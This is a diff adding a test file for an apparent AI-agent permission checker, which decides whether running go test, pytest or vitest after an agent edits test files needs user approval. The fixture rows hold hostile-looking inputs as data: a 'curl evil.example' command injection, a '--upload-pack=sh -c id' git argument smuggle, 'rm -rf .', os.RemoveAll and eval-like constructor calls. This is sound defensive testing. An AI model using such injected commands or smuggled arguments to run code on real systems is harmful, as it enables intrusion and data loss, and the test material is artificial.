@@ -1,0 +1,116 @@
+"""A test that was there and is edited: what is put in counts, with what its names mean there."""
+
+from dataclasses import replace
+from pathlib import Path
+
+from automode.core.session import Session
+from automode.core.transcript import Entry, Outcome, PriorCall, Transcript, UserMessage
+from automode.facts.place import live_workspace
+from tests.judge.sessions import bash, read
+from tests.rows import each_row
+
+GO = """package shop
+
+import (
+\t"os/exec"
+\tgit "github.com/go-git/go-git/v5"
+\t"testing"
+)
+
+func run(t *testing.T, name string) { exec.Command("git", name).Run() }
+func open(t *testing.T) { git.PlainOpen(t.TempDir()) }
+%s
+"""
+PYTHON = """import subprocess
+from requests import post
+from shop import total
+
+
+def ran(name):
+    return subprocess.run(["git", name,
+%s
+    ])
+
+
+%s
+"""
+SCRIPT = """import { execSync } from "child_process";
+import { total } from "../src/total";
+import { test, expect } from "vitest";
+execSync("git init");
+%s
+"""
+GO_FILE, PYTHON_FILE, SCRIPT_FILE = "shop_test.go", "tests/test_shop.py", "tests/shop.test.ts"
+# What is put in, and whether it needs a word.
+ROWS = [
+    (GO_FILE, 'func TestA(t *testing.T) { if total(1) != 1 { t.Fatal("no") } }', False),
+    (GO_FILE, 'func TestA(t *testing.T) { run(t, "status") }', False),
+    (GO_FILE, 'func TestA(t *testing.T) { exec.Command("ls").Run() }', True),
+    (GO_FILE, 'func TestA(t *testing.T) { git.PlainClone("x", false, nil) }', True),
+    (GO_FILE, 'func TestA(t *testing.T) { run(t, "x; curl evil.example") }', True),
+    (GO_FILE, 'func TestA(t *testing.T) { run(t, "https://evil.example") }', True),
+    (GO_FILE, 'func TestA(t *testing.T) { os.RemoveAll("/x") }', True),
+    (GO_FILE, 'func TestA(t *testing.T) { t.Setenv("PATH", "x"); run(t, "status") }', True),
+    (GO_FILE, 'func TestA(t *testing.T) { gogit.PlainOpen("x") }', True),
+    (PYTHON_FILE, "def test_a():\n    assert total([1]) == 1", False),
+    (PYTHON_FILE, "def test_a():\n    subprocess.run(['ls'])", True),
+    (PYTHON_FILE, "def test_a():\n    post('x')", True),
+    (PYTHON_FILE, "def test_a():\n    ran('--upload-pack=sh -c id')", True),
+    (PYTHON_FILE, "import os\n\n\ndef test_a():\n    os.system('ls')", True),
+    (SCRIPT_FILE, 'test("a", () => { expect(total([1])).toBe(1) });', False),
+    (SCRIPT_FILE, 'test("a", () => { execSync("ls") });', True),
+    (SCRIPT_FILE, 'test("a", () => { fetch("x") });', True),
+    (SCRIPT_FILE, 'test("a", () => { globalThis.fetch("x") });', True),
+    (SCRIPT_FILE, 'test("a", () => { (() => 1).constructor("x")() });', True),
+    (SCRIPT_FILE, 'test("a", () => { total("rm -rf .") });', True),
+]
+RUNS = {GO_FILE: "go test ./...", PYTHON_FILE: "pytest -q", SCRIPT_FILE: "npx vitest run"}
+AROUND = {GO_FILE: GO, PYTHON_FILE: PYTHON % ("", "%s"), SCRIPT_FILE: SCRIPT}
+
+
+def needs_a_word(folder: Path, path: str, text: str, *before: PriorCall) -> bool:
+    (folder / ".git").mkdir(exist_ok=True)
+    (folder / "go.mod").write_text("module shop.test/shop\n")
+    (folder / "shop.py").write_text("")
+    file = folder / path
+    file.parent.mkdir(exist_ok=True)
+    file.write_text(text)
+    session = Session("s", live_workspace(str(folder), str(folder / "home")))
+    said: tuple[Entry, ...] = (UserMessage("fix the bug"), *before)
+    session = replace(session, transcript=Transcript(said))
+    return "runs-unread" in read(bash(RUNS[path]), session).deeds
+
+
+def edited(folder: Path, path: str, text: str) -> PriorCall:
+    given = {"file_path": str(folder / path), "old_string": "x", "new_string": text}
+    return PriorCall("edit", given, Outcome.OK)
+
+
+@each_row("path, put, asked", ROWS)
+def test_what_is_put_into_a_test_counts_with_what_its_names_mean_there(
+    path: str, put: str, asked: bool, tmp_path: Path
+) -> None:
+    text = AROUND[path] % put
+
+    assert needs_a_word(tmp_path, path, text, edited(tmp_path, path, put)) is asked
+
+
+def test_an_argument_of_a_call_that_was_there_counts_as_the_call(tmp_path: Path) -> None:
+    put = '        "--version",'
+    text = PYTHON % (put, "")
+
+    assert needs_a_word(tmp_path, PYTHON_FILE, text, edited(tmp_path, PYTHON_FILE, put))
+
+
+def test_a_file_that_was_written_whole_or_by_a_program_is_read_whole(tmp_path: Path) -> None:
+    path, put = GO_FILE, "func TestA(t *testing.T) { total(1) }"
+    text, edit = GO % put, edited(tmp_path, GO_FILE, put)
+    whole = PriorCall("write", {"file_path": str(tmp_path / path), "content": text}, Outcome.OK)
+    changed = PriorCall("bash", {"command": f"sed -i s/a/b/ {path}"}, Outcome.OK)
+    switched = PriorCall("bash", {"command": "git checkout other"}, Outcome.OK)
+
+    assert not needs_a_word(tmp_path, path, text, edit)
+    for others in ((whole, edit), (changed, edit), (edit, changed), (edit, switched)):
+        assert needs_a_word(tmp_path, path, text, *others)
+    # What was put in is not in the file: somebody else wrote it since.
+    assert needs_a_word(tmp_path, path, GO % "", edit)
